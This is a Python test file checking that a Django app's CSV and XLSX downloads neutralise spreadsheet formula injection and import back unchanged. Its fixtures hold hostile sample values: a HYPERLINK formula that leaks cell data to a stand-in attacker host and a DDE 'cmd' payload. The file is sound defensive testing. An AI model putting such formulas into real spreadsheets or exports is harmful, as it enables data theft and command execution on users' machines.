"""Downloads hand a spreadsheet values, never formulas, and import back unchanged.

CONTRACT.md, "Downloads": in CSV a cell beginning with `=`, `+`, `-`, `@`, a tab or a
carriage return gets a leading `'`; in XLSX every cell is a string, number or date value;
`import_engagements` removes that one `'` again.
"""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from accounts.choices import Marking, Role
from engagements.models import Engagement
from roadmap.models import Tip, TipStatusUpdate
from tests.factories import make_engagement, make_partner, make_user

pytestmark = pytest.mark.usefixtures("reference_data")

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"open")'
DANGEROUS = [HYPERLINK, "+1 555 0100", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


def csv_cells(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def xlsx_sheet(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return load_workbook(io.BytesIO(response.content)).active


def assert_no_formula_starts(rows, url):
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (url, cell)


def assert_no_formulas(sheet, url):
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells, url
    for cell in cells:
        assert cell.data_type != "f", (url, cell.coordinate, cell.value)


@pytest.fixture
def hostile(db):
    """Text a hostile or careless user can type, in every kind of download."""
    analyst = make_user(Role.ANALYST, Marking.NS)
    manager = make_user(Role.MANAGER, Marking.NS)
    partner = make_partner(code="EVIL", name="=cmd|' /C calc'!A0")
    for position, text in enumerate(DANGEROUS):
        make_engagement(
            title=text,
            summary=text,
            outcomes=text,
            location=text[:200],
            partners=[partner, "JPN"],
            pillars=["security"],
            start_date=datetime.date.today() - datetime.timedelta(days=10 + position),
            created_by=analyst,
        )
    TipStatusUpdate.objects.create(
        tip=Tip.objects.get(number=1),
        status="on_track",
        note="@everyone -see +this",
        created_by=manager,
    )
    return manager


DOWNLOADS = ["/engagements/", "/reports/coverage/", "/reports/tips/", "/reports/gaps/"]


def test_csv_cells_never_start_like_a_formula(client, hostile):
    client.force_login(hostile)
    for url in DOWNLOADS:
        rows = csv_cells(client, url + "?format=csv")
        assert_no_formula_starts(rows, url)
    engagements = csv_cells(client, "/engagements/?format=csv")
    titles = {row[engagements[0].index("title")] for row in engagements[1:]}
    assert titles == {"'" + text for text in DANGEROUS}
    coverage = csv_cells(client, "/reports/coverage/?format=csv")
    assert ["EVIL", "'=cmd|' /C calc'!A0"] in [row[:2] for row in coverage]
    tips = csv_cells(client, "/reports/tips/?format=csv")
    assert "'@everyone -see +this" in tips[1]


def test_xlsx_cells_are_values_never_formulas(client, hostile):
    client.force_login(hostile)
    for url in DOWNLOADS:
        assert_no_formulas(xlsx_sheet(client, url + "?format=xlsx"), url)
    sheet = xlsx_sheet(client, "/engagements/?format=xlsx")
    rows = list(sheet.values)
    titles = {unescape(row[rows[0].index("title")]) for row in rows[1:]}
    assert titles == set(DANGEROUS)  # plain text, exactly as typed: no quote needed
    coverage = list(xlsx_sheet(client, "/reports/coverage/?format=xlsx").values)
    assert ("EVIL", "=cmd|' /C calc'!A0") in [row[:2] for row in coverage]
    tips = list(xlsx_sheet(client, "/reports/tips/?format=xlsx").values)
    assert "@everyone -see +this" in tips[1]


def test_xlsx_holds_real_dates_and_numbers_under_a_frozen_bold_header(client, analyst_ns):
    start = datetime.date.today() - datetime.timedelta(days=30)
    engagement = make_engagement(
        title="Typed cells", start_date=start, end_date=start + datetime.timedelta(days=2)
    )
    midnight = datetime.datetime.combine(start, datetime.time())
    client.force_login(analyst_ns)
    sheet = xlsx_sheet(client, "/engagements/?format=xlsx")
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert row["id"] == engagement.pk and isinstance(row["id"], int)
    assert row["version"] == engagement.version and isinstance(row["version"], int)
    assert row["start_date"] == midnight  # a date cell, not text
    assert row["end_date"] == midnight + datetime.timedelta(days=2)
    for name, shown in [
        ("start_date", "yyyy-mm-dd"),
        ("end_date", "yyyy-mm-dd"),
        ("created_at", "yyyy-mm-dd hh:mm:ss"),
        ("updated_at", "yyyy-mm-dd hh:mm:ss"),
    ]:
        cell = sheet.cell(2, header.index(name) + 1)
        assert cell.is_date and cell.number_format == shown, name  # a typed, readable date
    assert isinstance(row["created_at"], datetime.datetime)  # UTC, as Excel has no zones
    assert abs(row["created_at"] - engagement.created_at.replace(tzinfo=None)) < datetime.timedelta(
        seconds=1
    )
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    title_width = sheet.column_dimensions["B"].width
    assert sheet.column_dimensions["A"].width < title_width  # an id is narrower than a title

    coverage = xlsx_sheet(client, "/reports/coverage/?format=xlsx")
    jpn = next(row for row in coverage.values if row[0] == "JPN")
    assert jpn[2] == 1 and isinstance(jpn[2], int)  # dialogue count
    assert jpn[3] == midnight
    last = next(row for row in coverage.iter_rows() if row[0].value == "JPN")[3]
    assert last.is_date and last.number_format == "yyyy-mm-dd"


@pytest.mark.parametrize("download", ["csv", "xlsx"])
def test_a_download_imports_back_unchanged(client, tmp_path, download):
    original = make_engagement(
        title='=HYPERLINK("http://x.example","open") review',
        summary="-30% budget, +2 ships",
        outcomes="@ the next round: ''=quoted",
        location="+65 Singapore\r\nquay _x0041_ 4",
        partners=["KOR", "JPN"],
        pillars=["security", "dialogue"],
        facets=["security.maritime"],
        tips=[2, 5],
        start_date=datetime.date(2025, 2, 3),
        end_date=datetime.date(2025, 2, 5),
        marking=Marking.NR,
        escalation_risk="medium",
    )
    also = make_engagement(title="'=already quoted", summary="'plain quote stays")
    client.force_login(make_user(Role.ANALYST, Marking.NS))
    response = client.get(f"/engagements/?format={download}")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    path = tmp_path / f"export.{download}"
    path.write_bytes(content)

    call_command("import_engagements", str(path), stdout=io.StringIO())

    for before in (original, also):
        after = Engagement.objects.exclude(pk__in=[original.pk, also.pk]).get(title=before.title)
        for field in [
            "title",
            "summary",
            "outcomes",
            "location",
            "kind",
            "status",
            "start_date",
            "end_date",
            "marking",
            "escalation_risk",
        ]:
            assert getattr(after, field) == getattr(before, field), field
        assert [link.partner.code for link in after.partner_links.all()] == [
            link.partner.code for link in before.partner_links.all()
        ]
        for relation in ("pillars", "facets"):
            codes = sorted(getattr(after, relation).values_list("code", flat=True))
            assert codes == sorted(getattr(before, relation).values_list("code", flat=True))
        assert sorted(after.tips.values_list("number", flat=True)) == sorted(
            before.tips.values_list("number", flat=True)
        )


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=1", "''-1", "'", "'plain", "plain", ""]
)
def test_quoting_for_csv_is_undone_exactly(text):
    from core.downloads import csv_text, unquote

    quoted = csv_text(text)
    assert not quoted.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unquote(quoted) == text
